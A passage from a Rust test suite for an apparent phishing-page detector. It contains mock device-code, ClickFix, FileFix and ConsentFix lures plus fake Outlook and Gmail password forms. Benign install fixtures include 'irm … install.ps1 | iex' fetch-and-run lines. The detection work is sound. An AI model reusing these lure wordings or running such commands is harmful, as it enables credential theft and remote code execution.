        ),
        case(
            "a fish prompt",
            page("https://vaultctl.example/docs/login").title("vaultctl login").text(
                "vaultctl login\n~> vaultctl login --provider github\n! First copy your one-time code: \
                     33AF-0C1E\nThen open: https://github.com/login/device",
            ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        // Look-alikes: a prompt sign before words that are no command.
        case(
            "a capitalised word after PS> that is no cmdlet",
            page("https://skyforge-signin.example/join")
                .title("Join")
                .text("PS> Action required now\nOpen https://microsoft.com/devicelogin and enter the code FQ8K2XTLM."),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "an address ending in > is no prompt",
            page("https://skyforge-signin.example/join").title("Join").text(
                "https://x.example/a> go now\nOpen https://microsoft.com/devicelogin and enter the code FQ8K2XTLM.",
            ),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
    ]);
}

#[test]
fn an_ad_frame_naming_a_provider_claims_nothing_for_the_sites_own_login() {
    let engine = Engine::new(Policy::default());
    let judge = |p: &Page| engine.evaluate(&p.snap, &p.ctx);
    let login = page("https://cloud.quill-editor.example/login")
        .title("Sign in – Quill Cloud")
        .heading("Sign in to Quill Cloud")
        .form("https://cloud.quill-editor.example/session", "")
        .email()
        .password("Password")
        .frame("about:srcdoc", 200.0, 28.0, 1.0, true);
    let ad = page("https://ads.example.net/a")
        .title("Ad")
        .logo("Google")
        .heading("Google Workspace")
        .text("Google Workspace\nProfessional email with your domain. Get started")
        .framed_by(&["https://cloud.quill-editor.example"]);
    let (top, frame) = (judge(&login), judge(&ad));
    assert_eq!(top.level, Level::None, "{top:#?}");
    assert!(frame.facts.claims.iter().any(|c| c == "google"), "{:?}", frame.facts);
    assert_eq!(combine(&[top, frame.clone()]).level, Level::None);
    // Look-alike: bare fields in the top document under a frame that claims stay a split imitation.
    let bare_top = judge(
        &page("https://docs-share.example/f")
            .title(".")
            .form("https://docs-share.example/f", "")
            .email()
            .password("Enter your password")
            .buttons(&["Next"]),
    );
    assert!(bare_top.facts.bare, "{:?}", bare_top.facts);
    let tab = combine(&[bare_top, frame]);
    assert_eq!(tab.level, Level::Danger, "{tab:#?}");
    assert_eq!(tab.findings[0].rule.as_str(), "frames.claim-and-ask");
}

#[test]
fn a_site_name_in_its_own_script_first_in_the_title() {
    let product = |title: &str, home: &str| {
        page("https://www.calendar-renkei.example/")
            .title(title)
            .banner(&format!("{home} 機能 料金 導入事例 ログイン"))
            .banner_in(home, home)
            .heading("Microsoft 365・Google Workspace と予定を自動同期")
            .heading("GitHub")
            .card("ログイン\nMicrosoftでサインイン\nGoogleでログイン")
            .heading("管理者ログイン")
            .form("https://www.calendar-renkei.example/login", "メールアドレス パスワード")
            .email()
            .password("パスワード")
            .buttons(&["ログイン", "Microsoftでサインイン", "Googleでログイン"])
    };
    check(vec![
        case(
            "a Japanese product named first in its title and in its home link",
            product("カレンダ連携Pro｜Microsoft 365・Google Workspace 予定同期", "カレンダ連携Pro"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // Look-alike: the home link shows another name; the title's first part is no site name.
        case(
            "the title's first part not in the header",
            product("カレンダ連携Pro｜Microsoft 365・Google Workspace 予定同期", "サインイン"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// Device codes in a transcript that the page hands to the reader, ClickFix cards in other
/// languages or that say the paste confirms something, and a line asking for the password used at
/// a provider's domain beside the site's own sign-in card.
#[test]
fn lures_dressed_as_ordinary_pages() {
    let transcript = "Join the board briefing from a meeting room\nPS C:\\> roomlink join --meeting 482-117-903 \
                      Connecting to Microsoft Teams Rooms ... To sign in, use a web browser to open the page \
                      https://microsoft.com/devicelogin and enter the code GF7KQ2XRT to authenticate.";
    let own_card = |line: &str| {
        page("https://buildgrid.example/signin/")
            .title("Sign in – BuildGrid")
            .heading("Sign in to BuildGrid")
            .card("Sign in")
            .banner("BuildGrid")
            .banner(line)
            .text(&format!("BuildGrid\nSign in to BuildGrid\n{line}\nE-mailPasswordSign in"))
            .form("/signin", "E-mail Password Sign in")
            .email()
            .password("Password")
            .buttons(&["Sign in"])
    };
    check(vec![
        case(
            "a docs page whose transcript's code a Copy code button hands over",
            page("https://roomlink-setup.example/docs/join/")
                .title("Join from a meeting room – RoomLink docs")
                .text(&format!("{transcript}\nCopy codeOpen microsoft.com/devicelogin"))
                .buttons(&["Copy code"]),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "the same transcript with a code block's Copy button",
            page("https://docs.roomlink.example/docs/join/")
                .title("Join from a meeting room – RoomLink docs")
                .text(&format!("{transcript}\nOpen microsoft.com/devicelogin on any device."))
                .buttons(&["Copy", "Copy code to clipboard"]),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a README whose transcript's code a sentence gives the reader again",
            page("https://release-signing.example/maintainers/")
                .title("release-signing/README.md")
                .text(
                    "Maintainer re-verification\n$ gh auth refresh -h github.com -s admin:org ! First copy your \
                     one-time code: 8C4F-2D9A Press Enter to open github.com in your browser...\nOpen \
                     https://github.com/login/device, enter 8C4F-2D9A and click Authorize.",
                ),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a tutorial naming the device page again without the code",
            page("https://learn.cli-patterns.example/device-flow/")
                .title("The device flow, step by step")
                .text(
                    "The device flow\n$ mycli login Please visit https://github.com/login/device and enter code \
                     WDJB-MJHT Waiting for authorization...\nThe user types the code at github.com/login/device.",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a German ClickFix card: Outlook konnte nicht synchronisieren, Windows + R, Strg + V",
            page("https://postfach-sync-hilfe.example/")
                .title("Postfach-Synchronisierung")
                .text(
                    "Synchronisierung fehlgeschlagen\nOutlook konnte Ihr Postfach nicht synchronisieren.\nDrücken \
                     Sie\nWindows\n+\nR\nDrücken Sie\nStrg\n+\nV\nDrücken Sie\nEingabe\nReparieren",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a German IT help page: Windows + R, outlook.exe /safe (nothing to paste)",
            page("https://it.stadtwerke.example/hilfe/outlook/")
                .title("Outlook startet nicht – IT-Hilfe")
                .heading("Outlook startet nicht")
                .text(
                    "Outlook startet nicht\nStarten Sie Outlook im abgesicherten Modus: Drücken Sie Windows + R, \
                     geben Sie outlook.exe /safe ein und drücken Sie Eingabe.",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a German CLI install page: Win + X, Terminal, Strg + V; a GitHub sign-in is not needed",
            page("https://get.werkzeug-cli.example/install")
                .title("werkzeug installieren")
                .heading("werkzeug installieren")
                .text(
                    "werkzeug installieren\nDrücken Sie Win + X, öffnen Sie Terminal und fügen Sie mit Strg + V \
                     ein:\nirm https://get.werkzeug-cli.example/install.ps1 | iex\nEine Anmeldung bei GitHub ist \
                     nicht nötig.",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a Japanese FileFix card naming OneDrive: Windows + E, Ctrl + L, Ctrl + V",
            page("https://onedrive-kyouyu.example/file/")
                .title("ファイルの共有")
                .text(
                    "ファイルが共有されました\nこのファイルは社内の共有ドライブにあります。OneDrive でファイルを開くには、\
                     次の手順に従ってください。\nエクスプローラーを開く（\nWindows\n+\nE\n）\nアドレスバーを選択（\nCtrl\n+\nL\n）\
                     して貼り付け（\nCtrl\n+\nV\n）\nパスをコピー",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a Japanese help page: open OneDrive from Explorer, nothing to paste",
            page("https://it.kaisha.example/help/onedrive/")
                .title("OneDrive の使い方")
                .text("OneDrive でファイルを開くには\nエクスプローラーを開き（Windows + E）、左の OneDrive を選びます。"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a runner check whose paste confirms the GitHub Actions runner",
            page("https://actions-runner-check.example/")
                .title("Verify runner ownership")
                .heading("Verify runner ownership")
                .text(
                    "Verify runner ownership\nPress Win + R\nPaste with Ctrl + V\nPress Enter\nThis confirms the \
                     GitHub Actions runner on this machine belongs to you.\nVerify",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a CLI's install page whose paste installs a GitHub tool",
            page("https://get.ghtools.example/install")
                .title("Install ghtools")
                .heading("Install ghtools")
                .text(
                    "Install ghtools\nThis installs the GitHub helper tools on your machine.\nOn Windows, press Win + \
                     X, open Terminal and paste:\nirm https://get.ghtools.example/install.ps1 | iex\nCopy",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "Azure DevOps agent docs handing over a Microsoft device code: the lure is about Azure DevOps",
            page("https://pipeline-agent-setup.example/docs/register/")
                .title("Register your build agent – Azure DevOps docs")
                .text(
                    "Register your self-hosted agent with Azure DevOps\n$ az devops login --organization \
                     https://dev.azure.com/northwind-eng To sign in, use a web browser to open the page \
                     https://microsoft.com/devicelogin and enter the code HW3Q9LK2C to authenticate.\nCopy code",
                )
                .buttons(&["Copy code"]),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "ConsentFix: paste back the localhost address a Sign in with Microsoft link led to",
            page("https://verify-access-portal.example/")
                .title("Verify your access")
                .banner("Document access check")
                .banner_in("Sign in with Microsoft", "Sign in with Microsoft")
                .text(
                    "Document access check\nClick Sign in with Microsoft . A new tab opens.\nWhen that tab shows \
                     “This site can’t be reached”, copy the whole address from its address bar (it starts with \
                     http://localhost ).\nPaste it here and press Verify.\nVerify",
                )
                .form("/verify", "Verify")
                .input(InputKind::Other, "", "u", "")
                .buttons(&["Verify"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "ConsentFix naming the loopback address instead of localhost",
            page("https://repo-access-verify.example/")
                .title("Confirm repository access")
                .banner("Repository access check")
                .banner_in("Sign in with GitHub", "Sign in with GitHub")
                .text(
                    "Repository access check\n1. Click Sign in with GitHub and approve.\n2. The new tab shows \
                     an error: copy the address from its address bar (http://127.0.0.1:8400/?code=…).\n3. Paste \
                     it below.\nConfirm",
                )
                .form("/confirm", "Confirm")
                .input(InputKind::Other, "", "cb", "")
                .buttons(&["Confirm"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "ConsentFix with a drop zone: drag the address of the tab that cannot be reached",
            page("https://cli-session-verify.example/")
                .title("Sign in to your account")
                .banner("Microsoft")
                .heading("Verify it\u{2019}s you")
                .banner_in("Sign in", "Sign in")
                .text(
                    "Microsoft\nVerify it\u{2019}s you\n1. Sign in in the new tab. It ends on a \u{201c}This site \
                     can\u{2019}t be reached\u{201d} page.\n2. Drag the address from that tab\u{2019}s address bar \
                     and drop it here.\nDrop the address here",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a help page on \"This site can't be reached\" with a drop zone for a screenshot",
            page("https://help.netfix-tips.example/unreachable/")
                .title("Fix \u{201c}This site can\u{2019}t be reached\u{201d}")
                .heading("Fix \u{201c}This site can\u{2019}t be reached\u{201d}")
                .text(
                    "Fix \u{201c}This site can\u{2019}t be reached\u{201d}\nCheck the address in the address bar, \
                     then restart your router.\nStill stuck? Drag a screenshot and drop it here for our support team.",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a callback decoder: paste a loopback address to see its parameters, no sign-in link",
            page("https://oauth-tools.example/decode/")
                .title("Callback URL decoder")
                .heading("Callback URL decoder")
                .text(
                    "Callback URL decoder\nPaste the address from your browser's address bar \
                     (http://127.0.0.1:8400/callback?code=…) to see its parameters.\nDecode",
                )
                .form("/decode", "Decode")
                .input(InputKind::Other, "", "u", "")
                .buttons(&["Decode"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a developer tool's page: paste the localhost address into your terminal, no box on the page",
            page("https://docs.devtool.example/auth/")
                .title("Sign in without a browser")
                .banner_in("Sign in with Microsoft", "Sign in with Microsoft")
                .text(
                    "Sign in without a browser\nClick Sign in with Microsoft, then copy the address from the \
                     address bar (it starts with http://localhost) and paste it into the terminal.",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the site's own card with a line asking the password used on dev.azure.com",
            own_card("BuildGrid signs you in with your Azure DevOps organization account: use the same e-mail and password as on dev.azure.com."),
            Level::Danger,
            &["credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "the site's own card with advice never to use the password used on github.com",
            own_card("Choose a new password: never use the same password as on github.com."),
            Level::None,
            &[],
            &["credentials.prompt-off-origin"],
        ),
    ]);
}

/// A device-code lure that claims nothing but names, in its text, a provider that signs in through
/// the device page's provider is about that provider; one naming none is about the page's owner.
#[test]
fn device_code_lures_named_in_the_text() {
    let about = |text: &str| {
        let v = evaluate(
            &page("https://pipeline-agent-setup.example/docs/register/")
                .title("Register your agent")
                .text(text)
                .buttons(&["Copy code"]),
        );
        (v.level, v.provider)
    };
    let out = "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code HW3Q9LK2C to authenticate.";
    assert_eq!(
        about(&format!(
            "Register your self-hosted agent with Azure DevOps\n$ az devops login --org northwind {out}\nCopy code"
        )),
        (Level::Danger, Some("azure-devops".to_string()))
    );
    assert_eq!(
        about(&format!("Register your self-hosted agent\n$ agent login --org northwind {out}\nCopy code")),
        (Level::Danger, Some("microsoft".to_string()))
    );
}

/// A password manager's editor of a saved login (the site it is for in a field of its own) asks
/// for nothing; the same card without that field is a Google sign-in copy.
#[test]
fn a_saved_logins_editor_is_no_ask() {
    let item = |website: bool| {
        let p = page("https://vault.keyhaven.example/vault/items/8f21/edit")
            .title("Edit item | Keyhaven")
            .logo("Google")
            .heading("Google")
            .form("/vault/items/8f21", "Name Username Password Website Save")
            .input(InputKind::Other, "n", "name", "Name")
            .email()
            .password("Password");
        let p = if website { p.input(InputKind::Other, "uri", "uri", "Website") } else { p };
        p.buttons(&["Save", "Cancel"])
    };
    check(vec![
        case(
            "a vault's \"Edit item: Google\" with the login's website",
            item(true),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case("the same card without the website field", item(false), Level::Danger, &["origin.untrusted-host"], &[]),
    ]);
}

/// The on-premises Outlook on the web form: "Outlook" over a line naming the company, a
/// domain account and a password.
fn owa_form(url: &str, company_line: &str) -> Page {
    let p = page(url).title("Outlook").banner("Outlook");
    let p = if company_line.is_empty() { p } else { p.banner(company_line) };
    p.form(&format!("{url}auth.owa"), "Domain\\user name: Password: sign in")
        .input(InputKind::Identifier, "username", "username", "Domain\\user name:")
        .password("Password:")
}

#[test]
fn a_companys_own_mail_server_is_not_a_copy_of_its_product() {
    check(vec![
        case(
            "Outlook on the web at the company's mail host, naming the company",
            owa_form("https://mail.stenholm-logistics.se/owa/", "Stenholm Logistics webmail"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the same without the line naming the company",
            owa_form("https://mail.stenholm-logistics.se/owa/", ""),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same at the company's web host, not a mail host",
            owa_form("https://www.stenholm-logistics.se/owa/", "Stenholm Logistics webmail"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a host made of the company's name and mail wording",
            owa_form("https://mail.northbridge-mail-verify.com/owa/", "Northbridge webmail"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the company's mail host naming Microsoft itself",
            owa_form("https://mail.stenholm-logistics.se/owa/", "Stenholm Logistics webmail")
                .heading("Sign in with your Microsoft account"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Outlook Web App 2010 at the company's mail host: Microsoft's name and logo as it prints them",
            owa_form("https://webmail.hollis-partners.com/owa/", "Hollis & Partners LLP")
                .title("Outlook Web App")
                .banner("Microsoft\u{ae}")
                .logo("Microsoft")
                .text_line("Connected to Microsoft Exchange \u{a9} 2010 Microsoft Corporation. All rights reserved."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the company's mail host with Microsoft's name and logo and no product",
            page("https://mail.stenholm-logistics.se/")
                .title("Webmail")
                .banner("Microsoft")
                .banner("Stenholm Logistics webmail")
                .logo("Microsoft")
                .form("https://mail.stenholm-logistics.se/session", "Email Password")
                .email()
                .password("Password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the company's mail host with Microsoft's input markers",
            owa_form("https://mail.stenholm-logistics.se/owa/", "Stenholm Logistics webmail").input(
                InputKind::Identifier,
                "i0116",
                "loginfmt",
                "Email, phone, or Skype",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

#[test]
fn a_product_alone_in_the_last_part_of_the_title_names_itself() {
    let owa = |title: &str| {
        page("https://owa.mailbox-upgrade-center.com/owa/")
            .title(title)
            .banner("Tailspin Toys webmail")
            .form("https://owa.mailbox-upgrade-center.com/owa/auth.owa", "Email address: Password: sign in")
            .email()
            .password("Password:")
    };
    check(vec![
        case(
            "\"Tailspin Toys \u{2013} Outlook\": the product alone in the last part of the title",
            owa("Tailspin Toys \u{2013} Outlook"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the product among other words of one part",
            owa("Outlook tips for Tailspin Toys"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a shop's category named for the product, the shop's name in the last part",
            owa("Xbox | Tailspin Toys"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

/// A password box labelled with a provider's own domain ("dev.azure.com password") asks for that
/// provider's password, whatever the site calls itself; the site's own name there does not.
#[test]
fn a_password_box_labelled_with_a_providers_domain_asks_for_its_password() {
    let sign_in = |label: &str| {
        page("https://sprintmetrics-app.example/signin")
            .title("Sign in \u{2013} SprintMetrics")
            .heading("Sign in to SprintMetrics")
            .banner("SprintMetrics")
            .banner("Azure DevOps GitHub Jira")
            .form("https://sprintmetrics-app.example/signin", "E-mail Password Sign in")
            .email()
            .password(label)
    };
    let v = evaluate(&sign_in("dev.azure.com password"));
    assert_eq!((v.level, v.provider.as_deref()), (Level::Danger, Some("azure-devops")), "{:?}", v.findings);
    let v = evaluate(&sign_in("SprintMetrics password"));
    assert_eq!(v.level, Level::None, "{:?}", v.findings);
}

/// A service's settings that store a key for the provider's side (an app registration's client
/// secret, an API key) under the service's own masthead ask for no one's password; a page that
/// says it signs in to the provider and asks for the same box still warns, as does the settings
/// page whose box asks for a password.
#[test]
fn an_app_secret_under_the_site_masthead_is_no_password() {
    let sso = |heading: &str, label: &str, name: &str| {
        page("https://admin.ledgerloop.example/settings/security/sso")
            .title("Single sign-on – Security – Ledgerloop Admin")
            .banner("Ledgerloop Admin")
            .heading(heading)
            .logo("Microsoft")
            .text_line("Microsoft Entra tenant ID")
            .form(
                "https://admin.ledgerloop.example/settings/security/sso",
                "Microsoft Entra tenant ID Application (client) ID",
            )
            .input(InputKind::Other, "tenant", "tenant_id", "Microsoft Entra tenant ID")
            .input(InputKind::Other, "client_id", "client_id", "Application (client) ID")
            .input(InputKind::Password, "client_secret", name, label)
    };
    check(vec![
        case(
            "an admin's SSO settings with the client secret masked",
            sso("Single sign-on with Microsoft Entra ID", "Client secret", "client_secret"),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ),
        case(
            "an integration's API key box",
            sso("Single sign-on with Microsoft Entra ID", "API key", "api_key"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the same settings asking for the Microsoft password",
            sso("Single sign-on with Microsoft Entra ID", "Microsoft account password", "password"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a page that says it signs in to Microsoft, asking for a \"secret\"",
            sso("Sign in to Microsoft", "Secret", "secret"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A device's mail settings name the provider whose server sends its mail ("Service provider:
/// Gmail", an SMTP server, a port, a user name and a password): the server's settings, not a
/// sign-in to the provider, whatever the device calls itself. Without the server and port boxes,
/// or under "Sign in to Gmail", the same password box warns.
#[test]
fn a_device_mail_server_settings_form_is_no_sign_in() {
    let nas = |heading: &str, port: bool| {
        let form_text = if port {
            "Service provider Gmail SMTP server Port Username Password"
        } else {
            "Service provider Gmail Username Password"
        };
        let p = page("https://nas.okafor-family.example/notification/email")
            .title("Notification – HomeVault NAS")
            .banner("HomeVault NAS")
            .heading(heading)
            .text("Service provider\nGmail\nSMTP server\nPort\nUsername\nPassword\nFor Gmail, use an app password.")
            .text_line("Gmail")
            .form("https://nas.okafor-family.example/webapi/notification/email", form_text)
            .input(InputKind::Other, "provider", "provider", "Service provider");
        let p = if port {
            p.input(InputKind::Other, "server", "smtp_server", "SMTP server").input(
                InputKind::Other,
                "port",
                "smtp_port",
                "Port",
            )
        } else {
            p
        };
        p.input(InputKind::Identifier, "user", "smtp_user", "Username").password("Password")
    };
    check(vec![
        case(
            "a NAS's e-mail notification settings through Gmail",
            nas("Notification › Email", true),
            Level::None,
            &[],
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
        ),
        case(
            "the same form without its server and port boxes",
            nas("Notification › Email", false),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a page that says it signs in to Gmail, with server and port boxes",
            nas("Sign in to Gmail", true),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a copy of Gmail's own settings: Gmail alone in its header bar and its title",
            nas("Mail server verification failure", true).title("Settings – rosa@gmail.com – Gmail").banner("Gmail"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// Words that only say what a host is for ("outlook-device-setup.com": device, setup) are no
/// brand of the site's own: a Microsoft card there that asks for an "app password" claims
/// Microsoft.
#[test]
fn a_host_of_setup_words_has_no_brand_of_its_own() {
    let setup = |host: &str, title: &str, heading: &str| {
        page(&format!("https://{host}/apppassword/"))
            .title(title)
            .banner("Microsoft")
            .heading(heading)
            .text("Outlook on this device connects with IMAP and needs an app password.")
            .form(&format!("https://{host}/apppassword"), "App password")
            .input(InputKind::Password, "", "app_password", "App password")
    };
    check(vec![
        case(
            "a Microsoft card asking for an app password on a host of setup words",
            setup("outlook-device-setup.example", "Set up Outlook", "Set up Outlook on this device"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same on a host of activation words",
            setup("mail-sync-activate.example", "Activate mail sync", "Activate mail sync on this device"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// The mail server's settings read only where nothing asks for the provider's account: a
/// "re-validate your mailbox" page that adds a server and a port box to the password still warns,
/// whether it names the provider ("Gmail account") or a product ("Microsoft 365 password").
#[test]
fn a_mailbox_lure_with_server_boxes_still_warns() {
    let lure = |line: &str| {
        page("https://mailbox-quota-notice.example/revalidate")
            .title("Mailbox storage full")
            .heading("Your mailbox is almost full")
            .text(&format!("{line}\nIncoming server\nPort\nEmail\nPassword"))
            .text_line(line)
            .form("https://mailbox-quota-notice.example/r", &format!("{line} IMAP server Port Email Password"))
            .input(InputKind::Other, "srv", "imap_server", "IMAP server")
            .input(InputKind::Other, "port", "port", "Port")
            .email()
            .password("Password")
    };
    check(vec![
        case(
            "asks for the Gmail account beside server and port boxes",
            lure("Confirm your Gmail account password to keep receiving mail"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "asks for the Microsoft 365 password beside server and port boxes",
            lure("Enter your Microsoft 365 password to release held messages"),
            Level::Danger,
            &["credentials.third-party-password"],
            &[],
        ),
    ]);
}
